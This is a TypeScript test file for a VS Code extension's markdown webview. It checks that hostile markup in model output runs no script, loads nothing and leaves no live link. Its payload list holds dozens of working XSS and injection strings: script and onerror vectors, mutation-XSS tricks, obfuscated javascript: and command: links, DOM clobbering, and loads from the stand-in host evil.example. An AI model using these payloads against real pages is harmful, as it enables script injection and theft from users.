import assert from 'node:assert/strict';
import type { SharedHarness } from '../../../support/webviewHarness/useWebview.ts';

const run = 'pwned(1)';
const away = 'https://evil.example';

// What a model, or a file that it quotes, could say to make the page do something.
const hostile: readonly string[] = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=${away}/x.js></SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<img src=x onerror=${run}>`,
  `<img src="${away}/p.png">`,
  `![p](${away}/p.png)`,
  `![p](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bmVkKDEpIi8+)`,
  `<svg onload=${run}><circle/></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><img src=x onerror=${run}></template>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="${away}/x"></object><embed src="${away}/x">`,
  `<form action="${away}"><input name=body autofocus onfocus=${run}><button formaction="javascript:${run}">b</button></form>`,
  `<base href="${away}/">`,
  `<meta http-equiv="refresh" content="0;url=${away}">`,
  `<link rel=stylesheet href="${away}/x.css">`,
  `<style>@import "${away}/x.css"; body { display: none }</style>`,
  `<div style="background:url(${away}/x)">styled</div>`,
  `<p onclick="${run}" onmouseover="${run}">handlers</p>`,
  `<details open ontoggle=${run}><summary>s</summary></details>`,
  `<b id=app name=acquireVsCodeApi class=notice>clobber</b>`,
  `<a href="javascript:${run}">raw</a>`,
  `<a href="javascript&#58;${run}">entity</a>`,
  `<a href="java&#10;script:${run}">line end</a>`,
  `<a href=" &#1;javascript:${run}">control</a>`,
  `<a data-href="javascript:${run}">own attribute</a>`,
  `<p data-href="command:x">own attribute elsewhere</p>`,
  `<a href="https://example.com" target=_top ping="${away}">ping</a>`,
  `[md](javascript:${run})`,
  `[md](<javascript:${run}>)`,
  `[md](javascript&#58;${run})`,
  `[md](JAVASCRIPT&colon;${run})`,
  `[md](java&Tab;script:${run})`,
  `[md](command:workbench.action.quit)`,
  `[md](vscode://x/y)`,
  `[md](data:text/html,<script>${run}</script>)`,
  `[md](file:///etc/passwd)`,
  `[md]: javascript:${run}\n\n[md]`,
  `<javascript:${run}>`,
  `<command:quit>`,
  `[a](https://example.com"onmouseover="${run})`,
  `[a](https://example.com 'x" onmouseover="${run}')`,
  `![x" onerror="${run}](y)`,
  `\`\`\`"><img src=x onerror=${run}>\n<script>${run}</script>\n\`\`\``,
  `\`\`\`html\n</code></pre><script>${run}</script>\n\`\`\``,
  `- <li><ul><script>${run}</script>`,
  `| <img src=x onerror=${run}> | b |\n|---|---|\n| <script>${run}</script> | [x](javascript:${run}) |`,
  `> <!-- <img src="--><img src=x onerror=${run}//">`,
  `<!--><img src=x onerror=${run}>-->`,
  `<a><table><td><a href="javascript:${run}">nested</a></td></table></a>`,
  `<textarea><img src=x onerror=${run}></textarea>`,
  `<title><img src=x onerror=${run}></title>`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`,
  `<video><source onerror=${run}></video><audio src=x onerror=${run}>`,
  `<input type=image src=${away}/x onerror=${run}>`,
  `<dialog open><button popovertarget=x>t</button></dialog>`,
  `<custom-element onfocus=${run} tabindex=0>x</custom-element>`,
  `<a href="#"><style>a{background:url(${away})}</style>x</a>`,
  `a@b.</div><pre><javascript:${run}>> - > 1. <p contenteditable onfocus=${run} tabindex=1 autofocus>x</p><img src=x onerror=${run}>`,
  `<?xml-stylesheet href="${away}/x"?><![CDATA[<script>${run}</script>]]>`,
];

export function describeHostileMarkdown(harness: SharedHarness): void {
  const webview = harness.usePage({ page: 'probe' });

  it('runs nothing, loads nothing and keeps no live link', async () => {
    for (const text of hostile) {
      await webview.call('drawIntoPage', text);
      assert.deepEqual(await webview.call('dangers'), [], text);
      await webview.call('clickEverything');
    }
    await assertQuiet();
  });

  it('does neither while the text streams in', async () => {
    for (const text of hostile) {
      assert.deepEqual(await webview.call('dangersWhileStreaming', `Before\n\n${text}\n\nafter\n`), [], text);
    }
    await assertQuiet();
  });

  it('does neither when everything comes in one text', async () => {
    await webview.call('drawIntoPage', hostile.join('\n\n'));
    assert.deepEqual(await webview.call('dangers'), []);
    await webview.call('drawIntoPage', hostile.join(' '));
    assert.deepEqual(await webview.call('dangers'), []);
    await assertQuiet();
  });

  it('loses no text behind a tag that is only spoken of', async () => {
    await webview.call('drawIntoPage', 'Use the <script> tag, or <style>, and **then** go on.');
    assert.equal(await webview.page.locator('#app').textContent(), 'Use the <script> tag, or <style>, and then go on.');
  });

  it('keeps safe links as data for the extension', async () => {
    await webview.call('drawIntoPage', '[a](https://example.com/?a=1&amp;b=2) [b](src/a%20b.ts:3) <c@example.com>');
    const links = webview.page.locator('#app a');
    const hrefs = await Promise.all((await links.all()).map((link) => link.getAttribute('data-href')));
    assert.deepEqual(hrefs, ['https://example.com/?a=1&b=2', 'src/a%20b.ts:3', 'mailto:c@example.com']);
  });

  async function assertQuiet(): Promise<void> {
    await webview.page.waitForTimeout(50);
    assert.deepEqual(await webview.call('hostileRuns'), []);
    assert.deepEqual(webview.escaped, []);
    assert.deepEqual(webview.errors, []);
  }
}
